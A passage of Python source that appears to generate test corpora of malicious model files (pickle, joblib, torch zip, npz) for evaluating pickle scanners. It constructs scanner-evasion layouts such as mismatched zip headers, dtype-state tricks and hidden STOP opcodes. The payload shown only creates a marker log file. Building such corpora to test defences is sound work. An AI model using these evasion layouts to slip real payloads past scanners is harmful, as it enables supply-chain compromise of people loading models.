            descr, size = ("u1", 1) if kind != "raw_f8" else ("<f8", 8)
            region += b"N" * (-len(region) % size)
            body = _wrapper(rng, len(region) // size, descr, size) + region
            if kind == "raw_after_benign":
                body = b"(" + ustr("w") + body + b"d"
    data = wrap(body, rng.choice((2, 3, 4, 5)))
    loader = rng.choice(("pickle", "torch", "pandas", "pickle-py"))
    name = rng.choice(("model.pkl", "model.joblib", "model.pt"))
    if loader == "pandas" and rng.random() < 0.5:
        name, data = "model.pkl.gz", gzip.compress(data)
    return Attack("joblib-layout", name, data, loader, f"{kind}/{what}")


@dataclass
class RawMember:
    """One zip entry written by hand, so the local header and the central directory can disagree."""

    name: str
    data: bytes
    method: int = 0
    local_name: str | None = None
    local_extra: bytes = b""
    cd_extra: bytes = b""
    csize_delta: int = 0  # added to the compressed size in both headers
    cd_csize_delta: int = 0  # added in the central directory only
    flags: int = 0
    crc_delta: int = 0
    local_method: int | None = None


def raw_zip(members: list[RawMember], *, comment: bytes = b"", prefix: bytes = b"") -> bytes:
    out = bytearray(prefix)
    central = bytearray()
    for m in members:
        body = m.data
        if m.method == 8:
            comp = zlib.compressobj(6, zlib.DEFLATED, -15)
            body = comp.compress(m.data) + comp.flush()
        crc = (zlib.crc32(m.data) + m.crc_delta) & 0xFFFFFFFF
        local_name = (m.local_name if m.local_name is not None else m.name).encode()
        offset = len(out)
        csize = len(body) + m.csize_delta
        out += struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, m.flags,
                           m.method if m.local_method is None else m.local_method, 0, 0x21, crc, csize,
                           len(m.data), len(local_name), len(m.local_extra)) + local_name + m.local_extra + body
        name = m.name.encode()
        central += struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, m.flags, m.method, 0, 0x21, crc,
                               csize + m.cd_csize_delta, len(m.data), len(name), len(m.cd_extra), 0, 0, 0, 0,
                               offset) + name + m.cd_extra
    cd_offset = len(out)
    out += central
    out += struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(members), len(members), len(central), cd_offset,
                       len(comment)) + comment
    return bytes(out)


def _extra(rng: random.Random) -> bytes:
    size = rng.choice((0, 4, 13, 100))
    return struct.pack("<HH", rng.choice((0xCAFE, 0x7075, 0x5455)), size) + bytes(rng.randrange(256)
                                                                                    for _ in range(size))


def cls_zip_headers(rng: random.Random) -> Attack:
    """Zips whose local headers and central directory disagree (extra fields, names, sizes, methods, CRCs),
    read by miniz (torch) and zipfile (numpy .npz, pandas .zip)."""
    evil, note, _ = pickle_bytes(rng)
    target = rng.choice(("torch", "numpy", "pandas"))
    kind = rng.choice(("local_extra", "cd_extra", "both_extra", "local_name", "csize_bigger", "cd_csize_bigger",
                       "bad_crc", "local_method", "flags", "deflated_local_extra", "data_descriptor_flag"))
    if target == "torch":
        payload, name = evil, "archive/data.pkl"
        others = [RawMember("archive/byteorder", b"little"), RawMember("archive/version", b"3\n")]
    elif target == "numpy":
        payload, name = _npy(evil, _NPY_HEADERS[0]), "arr_0.npy"
        others = []
    else:
        payload, name = evil, "frame.pkl"
        others = []
    m = RawMember(name, payload, method=8 if kind.startswith("deflated") or rng.random() < 0.3 else 0)
    if kind in ("local_extra", "both_extra", "deflated_local_extra"):
        m.local_extra = _extra(rng)
    if kind in ("cd_extra", "both_extra"):
        m.cd_extra = _extra(rng)
    if kind == "local_name":
        m.local_name = rng.choice(("x", name.upper(), name + "\x00", "../" + name))
    if kind == "csize_bigger":
        m.csize_delta = rng.choice((1, 7, 100))
    if kind == "cd_csize_bigger":
        m.cd_csize_delta = rng.choice((-3, 1, 7))
    if kind == "bad_crc":
        m.crc_delta = 1
    if kind == "local_method":
        m.local_method = 8 if m.method == 0 else 0
    if kind == "flags":
        m.flags = rng.choice((0x0800, 0x0002, 0x0040, 0x2000))
    if kind == "data_descriptor_flag":
        m.flags = 0x0008
    members = [m, *others] if rng.random() < 0.5 else [*others, m]
    data = raw_zip(members, comment=rng.choice((b"", b"PK\x05\x06", b"c" * 40)))
    filename = {"torch": "model.pt", "numpy": "a.npz", "pandas": "frame.pkl.zip"}[target]
    return Attack("zip-headers", filename, data, target, f"{kind}/m{m.method}/{note}")


def joblib_dtype_state_file(descr: str, state: bytes, count: int, real: int, seen: int) -> bytes:
    """A joblib pickle whose one array has ``count`` items of ``real`` bytes as numpy reads the dtype (after its
    BUILD ``state``), filled so that a reader that takes ``seen`` bytes an item meets a STOP and then invalid
    bytes (trailing data); after the real array the payload runs."""
    dtype = call(glob("numpy", "dtype"), ustr(descr), b"\x89\x88") + (state + b"b" if state else b"")
    header = b"}(" + ustr("subclass") + glob("numpy", "ndarray") + ustr("shape") + b"K" + bytes([count]) \
        + b"\x85" + ustr("order") + ustr("C") + ustr("dtype") + dtype + ustr("allow_mmap") + b"\x89u"
    array = b"\x00" * (real * count)
    if seen < real:
        array = b"\x00" * (seen * count) + b"." + b"\xff" * (real * count - seen * count - 1)
    tail = b"0" + call(glob("logging", "FileHandler"), sstr(MARKER)) + b"."
    return b"\x80\x04" + glob("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81" + header + b"b" + array + tail


def _state(version: int | None, size: int, elsize: int, flags: int) -> bytes:
    def i4(v: int) -> bytes:
        return b"J" + struct.pack("<i", v)
    parts = {5: [ustr("|"), b"N", b"N", i4(elsize), i4(1)],
             6: [i4(version or 0), ustr("|"), b"N", b"N", i4(elsize), i4(1)],
             7: [i4(version or 0), ustr("|"), b"N", b"N", b"N", i4(elsize), i4(1)],
             8: [i4(version or 3), ustr("|"), b"N", b"N", b"N", i4(elsize), i4(1), i4(flags)],
             9: [i4(version or 3), ustr("|"), b"N", b"N", b"N", i4(elsize), i4(1), i4(flags), b"N"]}[size]
    return b"(" + b"".join(parts) + b"t"


def cls_joblib_dtype(rng: random.Random) -> Attack:
    """NumpyArrayWrapper dtypes whose size numpy takes from the BUILD state in its several historic forms."""
    descr, own = rng.choice((("V4", 4), ("S4", 4), ("U1", 4), ("u1", 1), ("<f8", 8), ("V8", 8), ("|b1", 1)))
    length = rng.choice((5, 6, 7, 8, 9))
    elsize = rng.choice((12, 16))
    version = rng.choice((0, 1, 2, 3, 4)) if length >= 6 else None
    flexible = descr[-2] in "SUVa" or descr[0] in "SUVa"
    real = elsize if flexible else own
    count = rng.randrange(1, 5)
    data = joblib_dtype_state_file(descr, _state(version, length, elsize, 0), count, real,
                                   rng.choice((own, 1)))  # the type's own size, or the alignment
    return Attack("joblib-dtype", rng.choice(("m.joblib", "m.pkl")), data, "joblib",
                  f"{descr}/len{length}/v{version}/elsize{elsize}")


def joblib_wrapper_file(make: str, count: int, padding: int = 0) -> bytes:
    """A joblib pickle whose NumpyArrayWrapper is made by ``make`` (how protocols 0/1, __reduce_ex__ or a direct
    call make objects); its uint8 array bytes start with a STOP and invalid bytes (so a reader that does not
    skip them sees the pickle end there), and the payload runs after them."""
    wrapper = glob("joblib.numpy_pickle", "NumpyArrayWrapper")
    dtype = call(glob("numpy", "dtype"), ustr("u1"), b"\x89\x88")
    shape = b"K" + bytes([count]) + b"\x85"
    if make == "reconstructor":
        obj = call(glob("copyreg", "_reconstructor"), wrapper, glob("__builtin__", "object"), b"N")
    elif make == "newobj_reduce":
        obj = call(glob("copyreg", "__newobj__"), wrapper)
    elif make == "class_change":  # another object, turned into a wrapper by BUILD's setattr of __class__
        obj = glob("argparse", "Namespace") + b")\x81"
    else:  # a direct call: __init__ sets the attributes, alignment padding included (joblib's default 16)
        obj = call(wrapper, glob("numpy", "ndarray"), shape, ustr("C"), dtype)
    header = b"}(" + ustr("subclass") + glob("numpy", "ndarray") + ustr("shape") + shape + ustr("order") \
        + ustr("C") + ustr("dtype") + dtype + ustr("allow_mmap") + b"\x89u"
    if make == "class_change":
        header += b"}(" + ustr("__class__") + wrapper + b"u\x86"
    array = b"." + b"\xff" * (count - 1)
    pad = bytes([padding]) + b"\xff" * padding if make == "call" else b""
    tail = b"0" + call(glob("logging", "FileHandler"), sstr(MARKER)) + b"."
    return b"\x80\x02" + obj + header + b"b" + pad + array + tail


def cls_joblib_wrapper(rng: random.Random) -> Attack:
    """NumpyArrayWrappers made otherwise than by NEWOBJ: joblib still reads their array bytes."""
    make = rng.choice(("reconstructor", "newobj_reduce", "call", "class_change"))
    data = joblib_wrapper_file(make, rng.randrange(2, 40), rng.choice((0, 3, 15)))
    return Attack("joblib-wrapper", rng.choice(("m.joblib", "m.pkl")), data, "joblib", make)


_JUNK_AFTER = (b"cfoo bar\nbaz\n", b"c-x\ny\n", b"cos\nno such\n", b"\x8c\x03a b\x8c\x01c\x93", b"\xff\xfe",
               b"Vjunk \\\n", b"cclass Net(Module):\n    def\n")


def cls_probe(rng: random.Random) -> Attack:
    """Protocol 0/1 pickles (no magic) whose payload is followed by something no loader can import or parse,
    in files not named like models: content sniffing must still call them pickles (CVE-2025-10155)."""
    body, note = body_direct(rng) if rng.random() < 0.5 else body_opcodes(rng)
    if "dotted" in note:
        body, note = body_direct(rng)
    data = (rng.choice(LITERALS) if rng.random() < 0.3 else b"") + body + b"0" + rng.choice(_JUNK_AFTER) + b"."
    name = rng.choice(("data.bin", "weights", "model.dat", "checkpoint.ckpt.part", "x.txt"))
    return Attack("probe", name, data, rng.choice(("pickle", "torch", "joblib", "pandas", "numpy")), note)


CLASSES: dict[str, Callable[[random.Random], Attack]] = {
    "probe": cls_probe,
    "joblib-wrapper": cls_joblib_wrapper,
    "joblib-dtype": cls_joblib_dtype,
    "zip-headers": cls_zip_headers,
    "joblib-layout": cls_joblib_layout,
    "pickle-machine": cls_pickle, "stacked": cls_stacked, "persid": cls_persid, "frames": cls_frames,
    "codecs": cls_codecs, "library": cls_libraries, "torch-zip": cls_torch_zip, "numpy": cls_numpy,
    "torch-tar": cls_torch_tar, "compressed": cls_compressed, "polyglot": cls_polyglot,
}


def generate(seed: int, per_class: int, classes: list[str] | None = None) -> list[Attack]:
    """``per_class`` attacks for each class, the same for the same seed (names made unique by index)."""
    out: list[Attack] = []
    for cls in classes or sorted(CLASSES):
        rng = random.Random(f"{seed}:{cls}")  # noqa: S311 - reproducible test data, not secrets
        for i in range(per_class):
            attack = CLASSES[cls](rng)
            out.append(Attack(attack.cls, attack.filename, attack.data, attack.loader, f"{i:03d}/{attack.note}"))
    return out
